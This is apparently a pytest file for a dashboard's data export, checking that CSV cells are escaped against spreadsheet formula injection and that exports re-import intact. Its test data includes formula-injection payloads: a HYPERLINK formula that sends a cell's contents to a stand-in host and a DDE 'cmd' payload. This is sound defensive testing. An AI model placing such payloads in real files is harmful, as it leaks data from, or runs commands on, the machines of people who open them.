"""CSV exports are safe to open in a spreadsheet (OWASP's CSV-injection advice) and still
re-import to the same database; JSONL and Parquet keep every text exactly."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from dashboard.export.files import export
from dashboard.ingest import import_path
from dashboard.metrics.output import metrics_json
from dashboard.metrics.reference import refresh_auto_scores
from dashboard.metrics.selection import Selection
from dashboard.store import Store
from dashboard.types import Item, Response
from tests import builders
from tests.conftest import TEST_WAIT_S
from tests.ingest.conftest import query
from tests.ingest.test_roundtrip import ITEMS, PREFERENCE_ROWS, RATING_ROWS, RESPONSES

# Texts a spreadsheet would run as formulas, one per trigger; and texts that must survive
# the escape exactly (one that already starts with the escape, one with it inside).
HOSTILE = {
    "question": '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"click me")',
    "answer": "-5 degrees, then +3",
    "system": "+sys",
    "rater": "@mallory",
    "comment": "\tindented comment",
    "explanation": "\rstarts with a carriage return",
    "raw_output": "'already quoted",
    "context": "=cmd|' /C calc'!A0",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralized(text: str) -> str:
    """OWASP's rule as `dashboard/export/formulas.py` applies it, written again by hand."""
    return "'" + text if text[:1] in (*TRIGGERS, "'") else text


@pytest.fixture
def hostile_store(store: Store) -> Store:
    """Items, responses, ratings (on a -2..2 scale: negative numbers) and a preference whose
    texts start with every formula character."""
    item = Item(
        "item-1",
        "hostile",
        "open_qa_context",
        HOSTILE["question"],
        ("@reference one", "plain reference"),
        HOSTILE["context"],
    )
    other = builders.item("hostile", 2)
    a = Response("resp-a", "item-1", "hostile", HOSTILE["system"], HOSTILE["answer"])
    b = Response("resp-b", "item-1", "hostile", "plain", "'quoted answer")
    c = builders.response(other, "plain", "it's 'fine'")
    store.add_items([item, other], [a, b, c])
    person = builders.rating(
        a,
        HOSTILE["rater"],
        -1.0,
        kind="human",
        low=-2,
        high=2,
        comment=HOSTILE["comment"],
    )
    judge = builders.rating(
        b,
        "judge",
        -2.0,
        low=-2,
        high=2,
        explanation=HOSTILE["explanation"],
        raw_output=HOSTILE["raw_output"],
    )
    store.add_ratings([person, judge, builders.rating(c, "judge", 2.0, low=-2, high=2)])
    store.add_preferences([builders.preference(item, a, b, "=SUM(1+1)", "A")])
    return store


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(
    hostile_store: Store, tmp_path: Path
) -> None:
    files = export(hostile_store, tmp_path / "out.csv").files
    rows = _csv_rows(files["ratings"]) + _csv_rows(files["preferences"])
    numeric = {"value", "scale_low", "scale_high", "effective_score"}
    for row in rows:
        for column, cell in row.items():
            if cell[:1] in TRIGGERS:
                assert column in numeric, (column, cell)
                float(cell)  # a negative number, written as a number
    rated = {r["rater"]: r for r in _csv_rows(files["ratings"])}
    mallory = rated[neutralized(HOSTILE["rater"])]
    assert mallory["question"] == neutralized(HOSTILE["question"])
    assert mallory["answer"] == neutralized(HOSTILE["answer"])
    assert mallory["system"] == "'+sys"
    assert mallory["comment"] == "'\tindented comment"
    assert mallory["reference_context"] == neutralized(HOSTILE["context"])
    assert (mallory["value"], mallory["scale_low"], mallory["scale_high"]) == (
        "-1.0",
        "-2.0",
        "2.0",
    )
    assert json.loads(mallory["reference_answers"]) == ["@reference one", "plain reference"]
    judge = next(r for r in rated.values() if r["raw_output"])
    assert judge["raw_output"] == "''already quoted"
    assert judge["explanation"] == "'\rstarts with a carriage return"
    assert judge["value"] == "-2.0"
    (preference,) = _csv_rows(files["preferences"])
    assert preference["rater"] == "'=SUM(1+1)"
    assert preference["answer_b"] == "''quoted answer"


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_the_text_exact(
    hostile_store: Store, tmp_path: Path, fmt: str
) -> None:
    path = export(hostile_store, tmp_path / f"out.{fmt}").files["ratings"]
    if fmt == "parquet":
        rows = pq.read_table(path).to_pylist()
    else:
        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    mallory = next(r for r in rows if r["rater"] == HOSTILE["rater"])
    for field in ("question", "answer", "system", "comment"):
        assert mallory[field] == HOSTILE[field]
    assert mallory["value"] == -1.0


def test_the_csv_export_reimports_to_the_same_database_and_metrics(
    hostile_store: Store, tmp_path: Path
) -> None:
    files = export(hostile_store, tmp_path / "out.csv").files
    fresh = Store(tmp_path / "fresh.duckdb", wait_s=TEST_WAIT_S)
    import_path(fresh, files["ratings"])
    import_path(fresh, files["preferences"])
    for sql in (ITEMS, RESPONSES, RATING_ROWS, PREFERENCE_ROWS):
        assert query(fresh, sql) == query(hostile_store, sql), sql
    refresh_auto_scores(hostile_store)  # as the import did for the fresh copy
    for rubric in ("likert-rag", "pairwise"):
        selection = Selection("hostile", rubric)
        ours = metrics_json.compute(hostile_store, selection)[2]
        assert metrics_json.compute(fresh, selection)[2] == ours


def test_another_csvs_leading_quote_is_kept(store: Store, tmp_path: Path) -> None:
    """Only judgeboard's own export (known by its is_current column) loses the escape."""
    path = tmp_path / "theirs.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["question", "answer"])
        writer.writerow(["'quoted on purpose", "'=not a formula to us"])
    import_path(store, path, dataset="theirs", system="s")
    assert query(store, "SELECT question FROM items") == [("'quoted on purpose",)]
    assert query(store, "SELECT answer FROM responses") == [("'=not a formula to us",)]
